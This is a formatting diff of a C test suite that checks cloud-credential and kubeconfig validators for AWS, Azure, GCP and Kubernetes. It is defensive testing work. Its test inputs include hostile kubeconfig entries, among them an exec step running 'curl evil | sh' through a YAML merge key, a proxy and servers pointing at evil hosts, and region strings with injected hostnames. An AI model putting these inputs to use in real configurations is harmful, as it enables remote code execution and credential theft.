@@ -73,8 +73,7 @@ static cJSON *json(const char *text)
 }
 
 /* {"type": type, holder: {"plain": plain}} plus the members of @p extra. */
-static cJSON *body_with(const char *type, const char *holder, const char *plain,
-                        const char *extra)
+static cJSON *body_with(const char *type, const char *holder, const char *plain, const char *extra)
 {
   cJSON *b = json(extra ? extra : "{}");
   cJSON *h;
@@ -127,9 +126,8 @@ static char sentinel_secret[] = "untouched";
 static void expect_fail_s(const char *type, cJSON *body, enum cs_err code, const char *field,
                           const char *secret)
 {
-  struct cs_prov_result res = {.meta = (cJSON *)&sentinel_meta,
-                               .secret = sentinel_secret,
-                               .secret_len = 77};
+  struct cs_prov_result res = {
+      .meta = (cJSON *)&sentinel_meta, .secret = sentinel_secret, .secret_len = 77};
   struct cs_prov_error err = {.field = {0}};
   enum cs_err e = prov(type)->validate(body, &res, &err);
 
@@ -399,9 +397,10 @@ static void test_aws_missing(void **state)
 
 static void test_aws_bad_key_id(void **state)
 {
-  static const char *const bad[] = {
-      "\"akiaiosfodnn7example\"", "\"AKIA1234\"", "\"AKIAIOSFODNN7EXAMPL_\"",
-      "\"AKIA IOSFODNN7EXAMPLE\"", "12345678901234567890", "true", "[\"" KEY_ID "\"]"};
+  static const char *const bad[] = {"\"akiaiosfodnn7example\"", "\"AKIA1234\"",
+                                    "\"AKIAIOSFODNN7EXAMPL_\"", "\"AKIA IOSFODNN7EXAMPLE\"",
+                                    "12345678901234567890",     "true",
+                                    "[\"" KEY_ID "\"]"};
   char text[512], id[130];
   struct cs_prov_result r;
   cJSON *b;
@@ -436,9 +435,11 @@ static void test_aws_bad_secret(void **state)
   (void)state;
   memset(long_secret, 'k', 129);
   long_secret[129] = '\0';
-  expect_fail_s("aws", body_with("aws", "secret", "wJalrXUtnFEMI K7MDENG", "{\"accountID\":\"" KEY_ID "\"}"),
-                CS_ERR_INVALID, "secret.plain", "wJalrXUtnFEMI");
-  expect_fail_s("aws", body_with("aws", "secret", "tab\tSECRETVALUE", "{\"accountID\":\"" KEY_ID "\"}"),
+  expect_fail_s(
+      "aws", body_with("aws", "secret", "wJalrXUtnFEMI K7MDENG", "{\"accountID\":\"" KEY_ID "\"}"),
+      CS_ERR_INVALID, "secret.plain", "wJalrXUtnFEMI");
+  expect_fail_s("aws",
+                body_with("aws", "secret", "tab\tSECRETVALUE", "{\"accountID\":\"" KEY_ID "\"}"),
                 CS_ERR_INVALID, "secret.plain", "SECRETVALUE");
   expect_fail("aws", body_with("aws", "secret", long_secret, "{\"accountID\":\"" KEY_ID "\"}"),
               CS_ERR_INVALID, "secret.plain");
@@ -458,12 +459,12 @@ static void test_aws_role_arn(void **state)
       "arn:aws-us-gov:iam::000000000000:role/a/b/c/d",
   };
   static const char *const bad[] = {
-      "arn:aws:iam::12345678901:role/x",  "arn:aws:iam::1234567890123:role/x",
-      "arn:aws:iam::123456789012:user/x", "arn:aws:iam::123456789012:role/",
-      "arn:aws:iam::123456789012:role/a/", "arn:aws:sts::123456789012:role/x",
+      "arn:aws:iam::12345678901:role/x",     "arn:aws:iam::1234567890123:role/x",
+      "arn:aws:iam::123456789012:user/x",    "arn:aws:iam::123456789012:role/",
+      "arn:aws:iam::123456789012:role/a/",   "arn:aws:sts::123456789012:role/x",
       "arn:aws-eu:iam::123456789012:role/x", "arn:aws:iam:us-east-1:123456789012:role/x",
-      "arn:aws:iam::123456789012:role/a b", "arn:aws:iam::123456789012:role/a:b",
-      "arn:aws:iam::123456789012:role/é",  "role/x",
+      "arn:aws:iam::123456789012:role/a b",  "arn:aws:iam::123456789012:role/a:b",
+      "arn:aws:iam::123456789012:role/é",    "role/x",
       "arn:aws:iam::12345678901x:role/x",
   };
   char text[1024];
@@ -481,7 +482,8 @@ static void test_aws_role_arn(void **state)
     expect_fail("aws", json(text), CS_ERR_INVALID, "roleArn");
   }
   /* 513 characters after role/ */
-  int n = snprintf(text, sizeof text, "{\"useAWSRole\":true,\"roleArn\":\"arn:aws:iam::123456789012:role/");
+  int n = snprintf(text, sizeof text,
+                   "{\"useAWSRole\":true,\"roleArn\":\"arn:aws:iam::123456789012:role/");
   memset(text + n, 'r', 513);
   snprintf(text + n + 513, sizeof text - (size_t)n - 513, "\"}");
   expect_fail("aws", json(text), CS_ERR_INVALID, "roleArn");
@@ -532,8 +534,7 @@ static void test_aws_numbers_and_flags(void **state)
   expect_ok("aws", b, &r);
   assert_int_equal(strlen(cJSON_GetObjectItem(r.meta, "externalID")->valuestring), 1224);
   cs_prov_result_free(&r);
-  expect_ok("aws", json("{\"useAWSRole\":true,\"durationSeconds\":900,\"externalID\":\"ab\"}"),
-            &r);
+  expect_ok("aws", json("{\"useAWSRole\":true,\"durationSeconds\":900,\"externalID\":\"ab\"}"), &r);
   assert_int_equal(cJSON_GetObjectItem(r.meta, "durationSeconds")->valuedouble, 900);
   cs_prov_result_free(&r);
 }
@@ -543,16 +544,42 @@ static void test_aws_numbers_and_flags(void **state)
 static void test_aws_region_names(void **state)
 {
   static const char *const good[] = {
-      "us-east-1", "eu-west-3", "ap-southeast-4", "me-central-1", "il-central-1",
-      "us-gov-west-1", "cn-north-1", "us-iso-east-1", "us-isob-east-1", "eu-isoe-west-1",
-      "eusc-de-east-1", "ca-west-1", "ap-south-22"};
-  static const char *const bad[] = {
-      "", "us", "us-east", "us-east-", "-us-east-1", "us-east-1-", "useast1", "us_east_1",
-      "US-EAST-1", "Us-east-1", "us-East-1", "us-east-1a", "us-east-123", "u-east-1",
-      "abcde-east-1", "us--east-1", "us-east--1", "us-1", "us-east-1.evil.example",
-      "evil.example/us-east-1", "us-east-1/", "us-east-1#", "us-east-1?", "us-east-1@x",
-      "x@us-east-1", "us-east-1:443", "us-east-1%2e", "us east 1", " us-east-1",
-      "us-east-1 ", "us-east-1\n", "\xc3\xbcs-east-1", "us-southeast-southwest-northeast-1"};
+      "us-east-1",      "eu-west-3",  "ap-southeast-4", "me-central-1",   "il-central-1",
+      "us-gov-west-1",  "cn-north-1", "us-iso-east-1",  "us-isob-east-1", "eu-isoe-west-1",
+      "eusc-de-east-1", "ca-west-1",  "ap-south-22"};
+  static const char *const bad[] = {"",
+                                    "us",
+                                    "us-east",
+                                    "us-east-",
+                                    "-us-east-1",
+                                    "us-east-1-",
+                                    "useast1",
+                                    "us_east_1",
+                                    "US-EAST-1",
+                                    "Us-east-1",
+                                    "us-East-1",
+                                    "us-east-1a",
+                                    "us-east-123",
+                                    "u-east-1",
+                                    "abcde-east-1",
+                                    "us--east-1",
+                                    "us-east--1",
+                                    "us-1",
+                                    "us-east-1.evil.example",
+                                    "evil.example/us-east-1",
+                                    "us-east-1/",
+                                    "us-east-1#",
+                                    "us-east-1?",
+                                    "us-east-1@x",
+                                    "x@us-east-1",
+                                    "us-east-1:443",
+                                    "us-east-1%2e",
+                                    "us east 1",
+                                    " us-east-1",
+                                    "us-east-1 ",
+                                    "us-east-1\n",
+                                    "\xc3\xbcs-east-1",
+                                    "us-southeast-southwest-northeast-1"};
   (void)state;
   for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
     assert_true(cs_aws_region_valid(good[i]));
@@ -602,8 +629,7 @@ static void test_azure_valid(void **state)
   assert_int_equal(member_count(r.meta), 2);
   assert_str_member(info, "clientId", cJSON_GetObjectItem(sk, "clientId")->valuestring);
   assert_str_member(info, "tenantId", cJSON_GetObjectItem(sk, "tenantId")->valuestring);
-  assert_str_member(info, "subscriptionId",
-                    cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
+  assert_str_member(info, "subscriptionId", cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
   assert_not_in_json(r.meta, client_secret);
   assert_int_equal(r.secret_len, len);
   assert_memory_equal(r.secret, sk_text, len);
@@ -613,8 +639,7 @@ static void test_azure_valid(void **state)
   assert_str_member(out, "clientId", cJSON_GetObjectItem(sk, "clientId")->valuestring);
   assert_str_member(out, "clientSecret", client_secret);
   assert_str_member(out, "tenantId", cJSON_GetObjectItem(sk, "tenantId")->valuestring);
-  assert_str_member(out, "subscriptionId",
-                    cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
+  assert_str_member(out, "subscriptionId", cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
   assert_true(cJSON_Compare(cJSON_GetObjectItem(out, "serviceKey"), sk, true));
   cJSON_Delete(out);
   cs_prov_result_free(&r);
@@ -624,8 +649,7 @@ static void test_azure_valid(void **state)
 
 static void test_azure_invalid(void **state)
 {
-  static const char *const required[] = {"clientId", "clientSecret", "tenantId",
-                                         "subscriptionId"};
+  static const char *const required[] = {"clientId", "clientSecret", "tenantId", "subscriptionId"};
   char *sk_text = fixture("azure-sdk-auth.json", NULL);
   const char *secret_value;
   char field[64];
@@ -658,13 +682,12 @@ static void test_azure_invalid(void **state)
   secret_value = cJSON_GetObjectItem(sk, "clientSecret")->valuestring;
   char *broken = strdup(sk_text);
   broken[strlen(broken) - 3] = '\0'; /* cut the closing brace */
-  expect_fail_s("azure", body_with("azure", "secret", broken, NULL), CS_ERR_INVALID,
-                "secret.plain", secret_value);
+  expect_fail_s("azure", body_with("azure", "secret", broken, NULL), CS_ERR_INVALID, "secret.plain",
+                secret_value);
   free(broken);
   cJSON_Delete(sk);
 
-  expect_fail("azure", body_with("azure", "secret", "[1,2]", NULL), CS_ERR_INVALID,
-              "secret.plain");
+  expect_fail("azure", body_with("azure", "secret", "[1,2]", NULL), CS_ERR_INVALID, "secret.plain");
   expect_fail("azure", body_with("azure", "secret", "\"clientId\"", NULL), CS_ERR_INVALID,
               "secret.plain");
   expect_fail("azure", body_with("azure", "secret", "client_id=abc", NULL), CS_ERR_INVALID,
@@ -675,8 +698,7 @@ static void test_azure_invalid(void **state)
   deep[199] = '\0';
   expect_fail("azure", body_with("azure", "secret", deep, NULL), CS_ERR_INVALID, "secret.plain");
   expect_fail("azure", json("{}"), CS_ERR_MISSING, "secret.plain");
-  expect_fail("azure", json("{\"secret\":{\"encrypted\":\"x\"}}"), CS_ERR_MISSING,
-              "secret.plain");
+  expect_fail("azure", json("{\"secret\":{\"encrypted\":\"x\"}}"), CS_ERR_MISSING, "secret.plain");
   expect_fail("azure", json("{\"secret\":true}"), CS_ERR_INVALID, "secret");
   free(sk_text);
 }
@@ -688,9 +710,8 @@ static void test_azure_resolve_corrupt(void **state)
 
   (void)state;
   for (size_t i = 0; i < sizeof payloads / sizeof payloads[0]; i++)
-    assert_int_equal(
-        resolve(prov("azure"), meta, payloads[i], strlen(payloads[i]), NULL, &out),
-        CS_ERR_CRYPTO);
+    assert_int_equal(resolve(prov("azure"), meta, payloads[i], strlen(payloads[i]), NULL, &out),
+                     CS_ERR_CRYPTO);
   assert_null(out);
   cJSON_Delete(meta);
 }
@@ -808,21 +829,25 @@ static void test_gcp_sa_invalid(void **state)
       {"private_key", NULL, CS_ERR_MISSING, "secret.plain.private_key"},
       {"private_key", "\"not a key\"", CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PUBLIC KEY-----\\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtestAAAAAAAAAAAAAAAAAAAA\\n"
+       "\"-----BEGIN PUBLIC "
+       "KEY-----\\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtestAAAAAAAAAAAAAAAAAAAA\\n"
        "-----END PUBLIC KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
+       "\"-----BEGIN PRIVATE "
+       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
        "-----END RSA PRIVATE KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC*KcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
+       "\"-----BEGIN PRIVATE "
+       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC*KcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
        "-----END PRIVATE KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key", "\"-----BEGIN PRIVATE KEY-----\\n\\n-----END PRIVATE KEY-----\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"private_key",
-       "\"-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n\"",
+       "\"-----BEGIN PRIVATE "
+       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n\"",
        CS_ERR_INVALID, "secret.plain.private_key"},
       {"client_email", "\"scanner.example.com\"", CS_ERR_INVALID, "secret.plain.client_email"},
       {"client_email", "\"@example.com\"", CS_ERR_INVALID, "secret.plain.client_email"},
@@ -837,9 +862,11 @@ static void test_gcp_sa_invalid(void **state)
     free(t);
   }
   /* An RSA PRIVATE KEY block is accepted, as are CRLF line ends. */
-  char *t = sa_variant("private_key",
-                       "\"-----BEGIN RSA PRIVATE KEY-----\\r\\nMIIEowIBAAKCAQEA0ajI7Jf1e61YqbvyhwIDAQABAoIBAQCxAAAAAAAAAAAAAAAAAAAAAA==\\r\\n"
-                       "-----END RSA PRIVATE KEY-----\\r\\n\"");
+  char *t = sa_variant(
+      "private_key",
+      "\"-----BEGIN RSA PRIVATE "
+      "KEY-----\\r\\nMIIEowIBAAKCAQEA0ajI7Jf1e61YqbvyhwIDAQABAoIBAQCxAAAAAAAAAAAAAAAAAAAAAA==\\r\\n"
+      "-----END RSA PRIVATE KEY-----\\r\\n\"");
   struct cs_prov_result r;
   expect_ok("gcp", body_with("gcp", "secret", t, NULL), &r);
   cs_prov_result_free(&r);
@@ -855,8 +882,7 @@ static void test_gcp_resolve_corrupt(void **state)
   cJSON *meta = json("{\"authType\":\"serviceAccount\"}"), *out = NULL;
 
   (void)state;
-  assert_int_equal(resolve(prov("gcp"), meta, "{\"type\":\"x\"}", 12, NULL, &out),
-                   CS_ERR_CRYPTO);
+  assert_int_equal(resolve(prov("gcp"), meta, "{\"type\":\"x\"}", 12, NULL, &out), CS_ERR_CRYPTO);
   assert_int_equal(resolve(prov("gcp"), meta, "AIzaSy", 6, NULL, &out), CS_ERR_CRYPTO);
   cJSON_Delete(meta);
   meta = json("{\"authType\":\"apiToken\"}");
@@ -961,8 +987,7 @@ static void test_kube_token(void **state)
   assert_not_in_json(r.meta, token);
   assert_not_in_json(r.meta, ca);
 
-  assert_int_equal(resolve(prov("kubeconfig"), r.meta, r.secret, r.secret_len, NULL, &out),
-                   CS_OK);
+  assert_int_equal(resolve(prov("kubeconfig"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
   assert_str_member(out, "type", "kubeconfig");
   assert_str_member(out, "kubeconfig", text);
   cJSON_Delete(out);
@@ -1047,8 +1072,7 @@ static void test_kube_bad_context(void **state)
   kube_fixture_fails("kubeconfig-bad-context.yaml", "current-context", "token");
 }
 
-#define KUBE_HEAD                                                                              \
-  "apiVersion: v1\nkind: Config\n"
+#define KUBE_HEAD "apiVersion: v1\nkind: Config\n"
 #define KUBE_CLUSTERS "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
 #define KUBE_USERS "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
 #define KUBE_CONTEXTS "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
@@ -1104,35 +1128,38 @@ static void test_kube_structure(void **state)
                   "current-context must be a non-empty string");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: x2\n",
                   "current-context names no entry");
-  kube_text_fails("clusters:\n- name: c1\n  cluster:\n    insecure-skip-tls-verify: true\n"
-                  KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
-                  "clusters[0].cluster.server is required");
-  kube_text_fails("clusters:\n- cluster:\n    server: https://a\n" KUBE_USERS KUBE_CONTEXTS
-                  KUBE_CURRENT,
-                  "clusters[0].name is required");
+  kube_text_fails(
+      "clusters:\n- name: c1\n  cluster:\n    insecure-skip-tls-verify: true\n" KUBE_USERS
+          KUBE_CONTEXTS KUBE_CURRENT,
+      "clusters[0].cluster.server is required");
+  kube_text_fails(
+      "clusters:\n- cluster:\n    server: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+      "clusters[0].name is required");
   kube_text_fails("clusters:\n- name: c1\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
                   "clusters[0].cluster is required");
-  kube_text_fails("clusters:\n- name: c1\n  cluster: https://a\n" KUBE_USERS KUBE_CONTEXTS
-                  KUBE_CURRENT,
-                  "must be a mapping");
-  kube_text_fails(KUBE_CLUSTERS "- name: c1\n  cluster:\n    server: https://b\n" KUBE_USERS
-                  KUBE_CONTEXTS KUBE_CURRENT,
-                  "clusters[1].name repeats");
+  kube_text_fails(
+      "clusters:\n- name: c1\n  cluster: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+      "must be a mapping");
+  kube_text_fails(
+      KUBE_CLUSTERS
+      "- name: c1\n  cluster:\n    server: https://b\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+      "clusters[1].name repeats");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS
                   "contexts:\n- name: x1\n  context:\n    cluster: c1\n" KUBE_CURRENT,
                   "contexts[0].context.user is required");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS
-                  "contexts:\n- name: x1\n  context:\n    cluster: c9\n    user: u1\n"
-                  KUBE_CURRENT,
+                  "contexts:\n- name: x1\n  context:\n    cluster: c9\n    user: u1\n" KUBE_CURRENT,
                   "contexts[0].context.cluster (the current context's) names no entry");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS
                   "contexts:\n- name: x0\n  context:\n    cluster: c1\n    user: u1\n"
                   "- name: x1\n  context:\n    cluster: c1\n    user: u9\n" KUBE_CURRENT,
                   "contexts[1].context.user (the current context's) names no entry");
-  kube_text_fails(KUBE_CLUSTERS "users:\n- name: u1\n  user:\n    token: sekrit\n"
-                  "- name: u2\n  user:\n    exec:\n      command: gke-gcloud-auth-plugin\n"
-                  KUBE_CONTEXTS KUBE_CURRENT,
-                  "users[1].user.exec");
+  kube_text_fails(
+      KUBE_CLUSTERS
+      "users:\n- name: u1\n  user:\n    token: sekrit\n"
+      "- name: u2\n  user:\n    exec:\n      command: gke-gcloud-auth-plugin\n" KUBE_CONTEXTS
+          KUBE_CURRENT,
+      "users[1].user.exec");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT "current-context: x1\n",
                   "current-context appears twice");
   kube_text_fails("- clusters\n- users\n", "must be a mapping");
@@ -1140,8 +1167,7 @@ static void test_kube_structure(void **state)
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT "---\n" KUBE_CURRENT,
                   "one YAML document");
   kube_text_fails("# only a comment\n", "empty");
-  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: \"x\\0y\"\n",
-                  "NUL");
+  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: \"x\\0y\"\n", "NUL");
   kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "? [a, b]\n: c\n" KUBE_CURRENT,
                   "mapping keys must be plain strings");
   kube_text_fails("base: &b\n  server: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
@@ -1154,10 +1180,10 @@ static void test_kube_structure(void **state)
 }
 
 /* A document whose only user is @p user_body (the lines under "  user:"). */
-#define KUBE_WITH_USER(user_body)                                                              \
+#define KUBE_WITH_USER(user_body)                                                                  \
   KUBE_CLUSTERS "users:\n- name: u1\n  user:\n" user_body KUBE_CONTEXTS KUBE_CURRENT
 /* A document whose only cluster is @p cluster_body (the lines under "  cluster:"). */
-#define KUBE_WITH_CLUSTER(cluster_body)                                                        \
+#define KUBE_WITH_CLUSTER(cluster_body)                                                            \
   "clusters:\n- name: c1\n  cluster:\n" cluster_body KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT
 
 struct kube_case {
@@ -1194,27 +1220,27 @@ static void test_kube_merge_keys(void **state)
       {KUBE_WITH_USER("    <<:\n      exec:\n        command: /bin/sh\n"
                       "        args: [-c, 'curl evil | sh']\n"),
        "users[0].user.<<: YAML merge keys"},
-      {KUBE_CLUSTERS "users:\n- name: u1\n  user: {<<: {exec: {command: /bin/sh, args: [-c, id]}}}\n"
-       KUBE_CONTEXTS KUBE_CURRENT,
+      {KUBE_CLUSTERS "users:\n- name: u1\n  user: {<<: {exec: {command: /bin/sh, args: [-c, "
+                     "id]}}}\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].user.<<: YAML merge keys"},
       /* after an honest field, so a first-key-only check would miss it */
       {KUBE_WITH_USER("    token: sekrit-token-value\n    <<: {exec: {command: sh}}\n"),
        "users[0].user.<<"},
       /* at entry level, carrying the whole user */
       {KUBE_CLUSTERS "users:\n- name: u1\n  <<:\n    user:\n      auth-provider:\n"
-       "        name: gcp\n" KUBE_CONTEXTS KUBE_CURRENT,
+                     "        name: gcp\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].<<: YAML merge keys"},
-      {KUBE_CLUSTERS "users:\n- {name: u1, <<: {user: {exec: {command: sh}}}}\n" KUBE_CONTEXTS
-       KUBE_CURRENT,
+      {KUBE_CLUSTERS
+       "users:\n- {name: u1, <<: {user: {exec: {command: sh}}}}\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].<<"},
       /* at top level, at cluster level, in a context, in a sequence item */
       {"<<: {users: [{name: u1, user: {exec: {command: sh}}}]}\n" KUBE_CLUSTERS KUBE_CONTEXTS
-       KUBE_CURRENT,
+           KUBE_CURRENT,
        "<<: YAML merge keys"},
       {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    <<: {proxy-url: http://evil:3128}\n"),
        "clusters[0].cluster.<<"},
       {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
-       "    user: u1\n    <<: {namespace: kube-system}\n" KUBE_CURRENT,
+                                "    user: u1\n    <<: {namespace: kube-system}\n" KUBE_CURRENT,
        "contexts[0].context.<<"},
       /* nested merges, and merges inside the fields nobody interprets */
       {KUBE_WITH_USER("    <<: {<<: {exec: {command: sh}}}\n"), "users[0].user.<<"},
@@ -1271,7 +1297,8 @@ static void test_kube_anchors_aliases_tags(void **state)
        "users[0].user: YAML anchors and aliases"},
       {KUBE_WITH_USER("    as-groups: [a, *g]\n"), "users[0].user.as-groups[1]: YAML anchors"},
       {KUBE_WITH_USER("    token: !foo t\n"), "users[0].user.token: YAML tags"},
-      {KUBE_WITH_USER("    token: !<tag:example.com,2024:t> t\n"), "users[0].user.token: YAML tags"},
+      {KUBE_WITH_USER("    token: !<tag:example.com,2024:t> t\n"),
+       "users[0].user.token: YAML tags"},
       {KUBE_WITH_USER("    token: ! t\n"), "users[0].user.token: YAML tags"},
       /* !!binary would hand kubectl the decoded bytes, not what we checked */
       {KUBE_WITH_USER("    token: !!binary c2Vrcml0\n"), "users[0].user.token: YAML tags"},
@@ -1317,7 +1344,7 @@ static void test_kube_refused_fields(void **state)
       {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    Server: https://evil\n"),
        "clusters[0].cluster.Server is not"},
       {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
-       "    user: u1\n    exec: sh\n" KUBE_CURRENT,
+                                "    user: u1\n    exec: sh\n" KUBE_CURRENT,
        "contexts[0].context.exec is not"},
       {KUBE_CLUSTERS "users:\n- name: u1\n  exec: {command: sh}\n" KUBE_CONTEXTS KUBE_CURRENT,
        "users[0].exec is not"},
@@ -1354,8 +1381,8 @@ static void test_kube_refused_fields(void **state)
 static void test_kube_server_rules(void **state)
 {
   static const char *const ok[] = {
-      "https://c1:6443",        "https://10.0.0.1",       "https://[2001:db8::1]:6443/k8s",
-      "http://127.0.0.1:8080",  "http://127.1.2.3",       "http://[::1]:8080/",
+      "https://c1:6443",           "https://10.0.0.1",         "https://[2001:db8::1]:6443/k8s",
+      "http://127.0.0.1:8080",     "http://127.1.2.3",         "http://[::1]:8080/",
       "http://localhost:8080/api", "http://[0:0:0:0:0:0:0:1]",
   };
   static const struct kube_case cases[] = {
@@ -1390,23 +1417,26 @@ static void test_kube_server_rules(void **state)
       {KUBE_WITH_CLUSTER("    insecure-skip-tls-verify: on\n    server: https://10.0.0.1\n"),
        "insecure-skip-tls-verify"},
       /* every cluster, not only the current context's */
-      {KUBE_CLUSTERS "- name: c2\n  cluster:\n    server: http://evil.example.com\n" KUBE_USERS
-       KUBE_CONTEXTS KUBE_CURRENT,
+      {KUBE_CLUSTERS
+       "- name: c2\n  cluster:\n    server: http://evil.example.com\n" KUBE_USERS KUBE_CONTEXTS
+           KUBE_CURRENT,
        "clusters[1].cluster.server: plain http"},
   };
   char yaml[512];
 
   (void)state;
   for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
-    snprintf(yaml, sizeof yaml, "%s%s%s", "clusters:\n- name: c1\n  cluster:\n    server: ",
-             ok[i], "\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT);
+    snprintf(yaml, sizeof yaml, "%s%s%s", "clusters:\n- name: c1\n  cluster:\n    server: ", ok[i],
+             "\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT);
     kube_text_ok(yaml);
   }
   kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
-  kube_text_ok(KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: false\n"));
+  kube_text_ok(
+      KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: false\n"));
   kube_text_ok(KUBE_WITH_CLUSTER("    server: https://127.0.0.1:6443\n"
                                  "    insecure-skip-tls-verify: true\n"));
-  kube_text_ok(KUBE_WITH_CLUSTER("    server: http://localhost\n    insecure-skip-tls-verify: true\n"));
+  kube_text_ok(
+      KUBE_WITH_CLUSTER("    server: http://localhost\n    insecure-skip-tls-verify: true\n"));
   kube_text_ok(KUBE_WITH_CLUSTER("    server: https://c1\n    insecure-skip-tls-verify: ~\n"));
 }
 
@@ -1416,32 +1446,34 @@ static void test_kube_server_rules(void **state)
 static void test_kube_allowed_fields(void **state)
 {
   (void)state;
-  kube_text_ok("apiVersion: v1\nkind: Config\npreferences: {colors: true, extensions: []}\n"
-               "extensions:\n- name: tool\n  extension: {any: [thing, {x: 1}]}\n"
-               "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
-               "    certificate-authority-data: LS0tLS1CRUdJTg==\n"
-               "    tls-server-name: api.c1\n    disable-compression: true\n"
-               "    insecure-skip-tls-verify: false\n"
-               "    extensions:\n    - name: cluster_info\n      extension:\n"
-               "        provider: minikube.sigs.k8s.io\n        version: v1.32.0\n"
-               "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
-               "    client-certificate-data: LS0tLS1CRUdJTg==\n"
-               "    client-key-data: LS0tLS1CRUdJTg==\n"
-               "    as: system:serviceaccount:ns:sa\n    as-uid: \"1234\"\n"
-               "    as-groups: [system:authenticated, scanners]\n"
-               "    as-user-extra: {scopes: [view, edit], reason: [~]}\n"
-               "    extensions: [{name: e, extension: null}]\n"
-               "- name: u2\n  user:\n    username: admin\n    password: \"p@ss: word # not a comment\"\n"
-               "- name: u3\n  user: ~\n"
-               "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
-               "    namespace: twistlock\n    extensions:\n    - name: context_info\n"
-               "      extension: {last-update: 'Mon, 01 Jan 2024'}\n"
-               "current-context: x1\n");
-  kube_text_ok("{\"apiVersion\":\"v1\",\"clusters\":[{\"name\":\"c1\",\"cluster\":{\"server\":"
-               "\"https://j\",\"certificate-authority-data\":\"LS0t\"}}],\"users\":[{\"name\":"
-               "\"u1\",\"user\":{\"username\":\"a\",\"password\":\"b\"}}],\"contexts\":[{\"name\":"
-               "\"x1\",\"context\":{\"cluster\":\"c1\",\"user\":\"u1\"}}],\"current-context\":\"x1\","
-               "\"preferences\":{}}");
+  kube_text_ok(
+      "apiVersion: v1\nkind: Config\npreferences: {colors: true, extensions: []}\n"
+      "extensions:\n- name: tool\n  extension: {any: [thing, {x: 1}]}\n"
+      "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
+      "    certificate-authority-data: LS0tLS1CRUdJTg==\n"
+      "    tls-server-name: api.c1\n    disable-compression: true\n"
+      "    insecure-skip-tls-verify: false\n"
+      "    extensions:\n    - name: cluster_info\n      extension:\n"
+      "        provider: minikube.sigs.k8s.io\n        version: v1.32.0\n"
+      "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
+      "    client-certificate-data: LS0tLS1CRUdJTg==\n"
+      "    client-key-data: LS0tLS1CRUdJTg==\n"
+      "    as: system:serviceaccount:ns:sa\n    as-uid: \"1234\"\n"
+      "    as-groups: [system:authenticated, scanners]\n"
+      "    as-user-extra: {scopes: [view, edit], reason: [~]}\n"
+      "    extensions: [{name: e, extension: null}]\n"
+      "- name: u2\n  user:\n    username: admin\n    password: \"p@ss: word # not a comment\"\n"
+      "- name: u3\n  user: ~\n"
